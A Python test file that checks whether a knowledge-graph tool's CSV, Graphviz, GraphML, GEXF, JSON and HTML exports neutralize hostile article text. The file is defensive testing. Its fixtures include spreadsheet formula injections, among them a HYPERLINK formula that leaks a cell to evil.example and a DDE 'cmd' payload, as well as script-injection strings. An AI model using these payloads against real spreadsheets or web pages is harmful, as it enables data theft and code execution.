"""Untrusted text in the exports people open: the hostile article of conftest.py and
property-based views, each export read back by the program that opens it (Python's csv as a
spreadsheet would split the cells, Graphviz, networkx, igraph, JSON and the page's scripts).

KG_HOSTILE_EXAMPLES raises the hypothesis budget, as in tests/test_hostile.py.
"""

import base64
import csv
import hashlib
import json
import os
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from collections import Counter
from pathlib import Path

import igraph
import networkx as nx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from builder.views.entity_view import entity_view
from builder.views.exports import export
from builder.views.exports._text import xml_chars
from builder.views.exports.cyjs import write_cyjs
from builder.views.exports.dot import TOOLTIP_BACKSLASH, write_dot
from builder.views.exports.gexf import write_gexf
from builder.views.exports.graphml import write_graphml
from builder.views.exports.html import CYTOSCAPE_STYLE, STATIC, html_page
from builder.views.exports.node_link import write_node_link
from builder.views.exports.spreadsheet import restore_cell, spreadsheet_cell, write_csv

EXAMPLES = int(os.environ.get("KG_HOSTILE_EXAMPLES", "25"))
hypothesis_settings = settings(max_examples=EXAMPLES, deadline=None, derandomize=True,
                               suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

# What tools that open the exports interpret: formula starts, numbers, markup and script,
# DOT escapes and entities, the page's placeholders, quotes, invisible and forbidden characters.
FRAGMENTS = [
    "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", "''", '"', "\\", "\\N", "\\l", "\\\"", "&", "&amp;", "&#65;",
    "<", ">", "</script>", "<!--<script>", "<script>", "-->", "<img src=x onerror=alert(1)>", "-2", "+3.5", "1e5",
    "=1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"x\")", " ", "\u00a0", "\u200b", "\u200f", "\u202e", "\u2066",
    "\u2028", "\u2029", "\ufeff", "\uff1d", "\x00", "\x01", "\x0b", "\x1f", "\x7f", "\x85", "\ufffe", "\uffff",
    "\ud800", "\udcff", "\U0001f600", "\u05e9\u05dc\u05d5\u05dd", "__GRAPH__", "__CYTOSCAPE__", "{", "}", "[", "]",
    ";", "|", ",", "->", "digraph",
]
hostile = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=8).map("".join)


@st.composite
def views(draw, *, iris: bool = False) -> nx.MultiDiGraph:
    """An entity view whose ids (unless `iris`), names and sentences are hostile text."""
    G = nx.MultiDiGraph()
    count = draw(st.integers(1, 5))
    for i in range(count):
        node = f"https://w3id.org/newskg/id/person/n{i}" if iris else f"n{i}:" + draw(hostile)
        G.add_node(node, label=draw(hostile), cls=draw(st.sampled_from(["Person", "Place", "Organization"])),
                   alt_labels=draw(st.lists(hostile, max_size=2)), documents=i, mentions=count - i)
    nodes = list(G)
    for a, b in zip(nodes, nodes[1:]):
        key = draw(st.sampled_from(["near", "locatedIn", "metWith"]))
        G.add_edge(a, b, key=key, property=key, confidence=draw(st.none() | st.floats(0, 1)),
                   support=draw(st.integers(0, 3)), sentence=draw(hostile),
                   documents=draw(st.lists(hostile, max_size=2)))
    return G


def cleaned(value: object) -> object:
    """A value as every view export writes it (XML 1.0 characters only)."""
    if isinstance(value, str):
        return xml_chars(value)
    if isinstance(value, list):
        return [cleaned(v) for v in value]
    if isinstance(value, dict):
        return {k: cleaned(v) for k, v in value.items()}
    return value


# -- Spreadsheets ---------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)


def opens_a_formula(cell: str) -> bool:
    """OWASP's test: a cell that starts with = + - @, a tab or a carriage return, also after
    spaces, is read as a formula, unless it is a plain number."""
    if PLAIN_NUMBER.fullmatch(cell):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA_STARTS


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not opens_a_formula(cell) or cell.startswith("'"), repr(cell)


def test_csv_of_a_hostile_article_neutralizes_formulas_and_keeps_numbers(hostile_store, tmp_path):
    G = entity_view(hostile_store, include_provenance=True)
    nodes, edges = export(hostile_store, "csv", tmp_path / "tables", include_provenance=True)
    node_rows, edge_rows = read_csv(nodes)[1:], read_csv(edges)[1:]
    assert_no_formula_cells(node_rows + edge_rows)
    assert len(node_rows) == G.number_of_nodes() and len(edge_rows) == G.number_of_edges()
    labels = {restore_cell(r[0]): r[1] for r in node_rows}
    assert labels == {n: spreadsheet_cell(d["label"]) for n, d in G.nodes(data=True)}
    assert {restore_cell(r[0]): restore_cell(r[1]) for r in node_rows} == {n: d["label"] for n, d in G.nodes(data=True)}
    written = set(labels.values())
    assert "'" + '=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in written
    assert {"'-2+3", "'@SUM(1+1)", "-2"} <= written  # "-2" is a plain number: a spreadsheet reads -2
    assert "'" + "=cmd|' /C calc'!A0 alias" in {r[3] for r in node_rows}
    assert all(int(r[4]) >= 0 and int(r[5]) >= 0 for r in node_rows)
    sentences = Counter(restore_cell(r[7]) for r in edge_rows)
    assert sentences == Counter(d["sentence"] for _, _, d in G.edges(data=True))
    assert any(r[7].startswith("'@SUM(A1)") for r in edge_rows)
    assert all(float(r[5]) > 0 for r in edge_rows if r[5])


@hypothesis_settings
@given(views())
def test_csv_cells_never_open_a_formula_and_read_back_exactly(tmp_path_factory, G):
    nodes, edges = write_csv(G, tmp_path_factory.mktemp("csv"))
    node_rows, edge_rows = read_csv(nodes)[1:], read_csv(edges)[1:]
    assert_no_formula_cells(node_rows + edge_rows)
    assert [[restore_cell(c) for c in r[:4]] for r in node_rows] == [
        [xml_chars(n), xml_chars(d["label"]), d["cls"], "|".join(map(xml_chars, d["alt_labels"]))]
        for n, d in G.nodes(data=True)]
    assert [(int(r[4]), int(r[5])) for r in node_rows] == [
        (d["documents"], d["mentions"]) for _, d in G.nodes(data=True)]
    assert [restore_cell(r[7]) for r in edge_rows] == [xml_chars(d["sentence"]) for _, _, d in G.edges(data=True)]
    assert [float(r[5]) if r[5] else None for r in edge_rows] == [d["confidence"] for _, _, d in G.edges(data=True)]


@hypothesis_settings
@given(hostile)
def test_spreadsheet_cells_are_safe_and_reversible(text):
    cell = spreadsheet_cell(text)
    assert not opens_a_formula(cell) or cell.startswith("'")
    assert restore_cell(cell) == text
    assert cell in (text, "'" + text)
    if PLAIN_NUMBER.fullmatch(text):
        assert cell == text


@pytest.mark.parametrize("value", [-2, 0.5, 3, "-2", "+3.5", "-1e5", ".5", None])
def test_spreadsheet_numbers_stay_numbers(value):
    assert spreadsheet_cell(value) == ("" if value is None else value)


@pytest.mark.parametrize("text", [" =1+1", "\u200f=1+1", "\ufeff@SUM(A1)", "\t1", "\r1", "\uff1d1+1", "-2+3", "''=1"])
def test_spreadsheet_formulas_behind_invisible_characters_are_neutralized(text):
    assert spreadsheet_cell(text) == "'" + text


# -- Graphviz -------------------------------------------------------------------------------

needs_dot = pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz (dot) is not installed")
SVG = "{http://www.w3.org/2000/svg}"
XLINK_TITLE = "{http://www.w3.org/1999/xlink}title"


def words(text: str) -> str:
    """Text with its whitespace (line breaks, Graphviz's no-break spaces) as single spaces."""
    return " ".join(text.split())


def rendered(dot_file: Path) -> tuple[Counter, Counter, Counter]:
    """What Graphviz shows of a DOT file: node label texts, edge label texts, edge tooltips.

    Fails on any warning and on SVG that is not well-formed XML.
    """
    result = subprocess.run(["dot", "-Tsvg", str(dot_file)], capture_output=True, text=True, check=False)
    assert result.returncode == 0 and result.stderr == "", result.stderr
    root = ET.fromstring(result.stdout)
    groups = {cls: [g for g in root.iter(f"{SVG}g") if g.get("class") == cls] for cls in ("node", "edge")}

    def texts(g: ET.Element) -> str:
        return words(" ".join("".join(t.itertext()) for t in g.iter(f"{SVG}text")))

    tooltips = Counter(words(a.get(XLINK_TITLE, "")) for g in groups["edge"] for a in g.iter(f"{SVG}a"))
    return Counter(map(texts, groups["node"])), Counter(map(texts, groups["edge"])), tooltips


def assert_graphviz_shows(G: nx.MultiDiGraph, dot_file: Path) -> None:
    nodes, edges, tooltips = rendered(dot_file)
    assert nodes == Counter(words(xml_chars(d["label"])) for _, d in G.nodes(data=True))
    assert edges == Counter(words(k) for _, _, k in G.edges(keys=True))
    expected = (xml_chars(d.get("sentence") or k).replace("\\", TOOLTIP_BACKSLASH)
                for _, _, k, d in G.edges(keys=True, data=True))
    assert tooltips == Counter(map(words, expected))


@needs_dot
def test_dot_of_a_hostile_article_renders_every_text_as_written(hostile_store, tmp_path):
    [path] = export(hostile_store, "dot", tmp_path / "graph.dot", include_provenance=True)
    assert_graphviz_shows(entity_view(hostile_store, include_provenance=True), path)


@needs_dot
@hypothesis_settings
@given(views())
def test_dot_renders_hostile_views_without_warnings(tmp_path_factory, G):
    path = tmp_path_factory.mktemp("dot") / "g.dot"
    write_dot(G, path)
    assert_graphviz_shows(G, path)


# -- GraphML and GEXF -----------------------------------------------------------------------

def expected_nodes(G: nx.MultiDiGraph) -> dict:
    return {xml_chars(n): {**cleaned(d), "alt_labels": "|".join(cleaned(d["alt_labels"]))}
            for n, d in G.nodes(data=True)}


def expected_edges(G: nx.MultiDiGraph) -> dict:
    return {(xml_chars(s), xml_chars(o), k): {"sentence": xml_chars(d["sentence"]),
                                              "documents": "|".join(cleaned(d["documents"]))}
            for s, o, k, d in G.edges(keys=True, data=True)}


def read_edges(H: nx.MultiDiGraph) -> dict:
    return {(s, o, d["property"]): {"sentence": d["sentence"], "documents": d["documents"]}
            for s, o, d in H.edges(data=True)}


@hypothesis_settings
@given(views())
def test_graphml_of_hostile_views_reads_back_in_networkx_and_igraph(tmp_path_factory, G):
    path = tmp_path_factory.mktemp("graphml") / "g.graphml"
    write_graphml(G, path)
    H = nx.read_graphml(path, force_multigraph=True)
    assert dict(H.nodes(data=True)) == expected_nodes(G)
    assert read_edges(H) == expected_edges(G)
    # igraph reads "&" in an attribute (the node id) as "&#38;" (libxml2 without entity
    # substitution); texts are elements, read exactly. kg's ids are IRIs, without "&".
    g = igraph.Graph.Read_GraphML(str(path))
    assert (g.vcount(), g.ecount()) == (G.number_of_nodes(), G.number_of_edges())
    assert [(v["label"], v["alt_labels"]) for v in g.vs] == [
        (d["label"], d["alt_labels"]) for d in expected_nodes(G).values()]
    assert [e["sentence"] for e in g.es] == [xml_chars(d["sentence"]) for _, _, d in G.edges(data=True)]


@hypothesis_settings
@given(views())
def test_gexf_of_hostile_views_reads_back_in_networkx(tmp_path_factory, G):
    path = tmp_path_factory.mktemp("gexf") / "g.gexf"
    write_gexf(G, path)
    H = nx.read_gexf(path)
    nodes = {n: {k: v for k, v in d.items() if k != "viz"} for n, d in H.nodes(data=True)}
    assert nodes == expected_nodes(G)
    assert read_edges(H) == expected_edges(G)


def test_graphml_and_gexf_of_a_hostile_article_read_back(hostile_store, tmp_path):
    G = entity_view(hostile_store, include_provenance=True)
    [graphml] = export(hostile_store, "graphml", tmp_path / "graph.graphml", view=G)
    [gexf] = export(hostile_store, "gexf", tmp_path / "graph.gexf", view=G)
    for H in nx.read_graphml(graphml, force_multigraph=True), nx.read_gexf(gexf):
        assert {n: d["label"] for n, d in H.nodes(data=True)} == {n: d["label"] for n, d in G.nodes(data=True)}
        assert Counter(d["sentence"] for _, _, d in H.edges(data=True)) == Counter(
            d["sentence"] for _, _, d in G.edges(data=True))
    assert igraph.Graph.Read_GraphML(str(graphml)).vcount() == G.number_of_nodes()


# -- JSON -----------------------------------------------------------------------------------

@hypothesis_settings
@given(views())
def test_cyjs_and_node_link_of_hostile_views_read_back(tmp_path_factory, G):
    folder = tmp_path_factory.mktemp("json")
    write_cyjs(G, folder / "g.cyjs")
    write_node_link(G, folder / "g.json")
    H = nx.cytoscape_graph(json.loads((folder / "g.cyjs").read_text(encoding="utf-8")))
    assert {n: d["name"] for n, d in H.nodes(data=True)} == {
        xml_chars(n): xml_chars(d["label"]) for n, d in G.nodes(data=True)}
    N = nx.node_link_graph(json.loads((folder / "g.json").read_text(encoding="utf-8")), edges="edges")
    assert dict(N.nodes(data=True)) == {xml_chars(n): cleaned(d) for n, d in G.nodes(data=True)}
    for R in H, N:
        assert Counter(d["sentence"] for _, _, d in R.edges(data=True)) == Counter(
            xml_chars(d["sentence"]) for _, _, d in G.edges(data=True))


# -- The page -------------------------------------------------------------------------------

def page_parts(page: str) -> tuple[list[str], list[str], str, dict]:
    """The inline scripts, inline styles, Content-Security-Policy and graph data of graph.html."""
    scripts = re.findall(r"<script>(.*?)</script>", page, flags=re.S)
    styles = re.findall(r"<style>(.*?)</style>", page, flags=re.S)
    [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    graph = json.loads(re.search(r"const GRAPH = (.*?);\n", scripts[1]).group(1))
    return scripts, styles, policy, graph


def sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode() + "'"


def assert_page_keeps_data_in_its_script(page: str, G: nx.MultiDiGraph) -> None:
    assert len(re.findall(r"<script", page, flags=re.I)) == 2 and len(re.findall(r"</script", page, flags=re.I)) == 2
    scripts, styles, policy, graph = page_parts(page)
    data = re.search(r"const GRAPH = (.*?);\n", scripts[1]).group(1)
    assert not re.search("[<>&\u2028\u2029]", data)
    reading = re.search(r"const READING = (.*?);\n", scripts[1]).group(1)  # mentions and sentences
    assert not re.search("[<>&\u2028\u2029]", reading) and isinstance(json.loads(reading), dict)
    assert "<!--" not in page and not re.search("<script", "".join(scripts), flags=re.I)
    assert Counter(n["data"]["label"] for n in graph["elements"]["nodes"]) == Counter(
        xml_chars(d["label"]) for _, d in G.nodes(data=True))
    assert Counter(e["data"]["sentence"] for e in graph["elements"]["edges"]) == Counter(
        xml_chars(d["sentence"]) for _, _, d in G.edges(data=True))
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["default-src"] == "'none'"
    assert set(directives["script-src"].split()) == set(map(sha256, scripts))
    assert set(directives["style-src"].split()) == set(map(sha256, [*styles, CYTOSCAPE_STYLE]))
    assert "unsafe" not in policy
    assert not re.search(r"\sstyle\s*=", page.split("<script>")[0])


def test_html_of_a_hostile_article_keeps_its_text_in_the_data(hostile_store, tmp_path):
    [path] = export(hostile_store, "html", tmp_path / "graph.html")
    page = path.read_text(encoding="utf-8")
    assert_page_keeps_data_in_its_script(page, entity_view(hostile_store))
    reading = json.loads(re.search(r"const READING = (.*?);\n", page_parts(page)[0][1]).group(1))
    shown = {text for m in reading["mentions"].values() for _, text, *_ in m["s"]}
    assert "</script><script>window.__pwned = \"script\"; alert(1)</script>" in shown


@hypothesis_settings
@given(views(iris=True))
def test_html_of_hostile_views_keeps_their_text_in_the_data(G):
    assert_page_keeps_data_in_its_script(html_page(G), G)


def test_the_policy_allows_the_stylesheet_cytoscape_adds():
    """The bundled library writes "." + its container class + this rule (the browser test
    sees that the policy blocks nothing)."""
    library = (STATIC / "cytoscape.min.js").read_text(encoding="utf-8")
    container, rule = CYTOSCAPE_STYLE[1:].split(" ", 1)
    assert f'"{container}"' in library and f'" {rule}"' in library
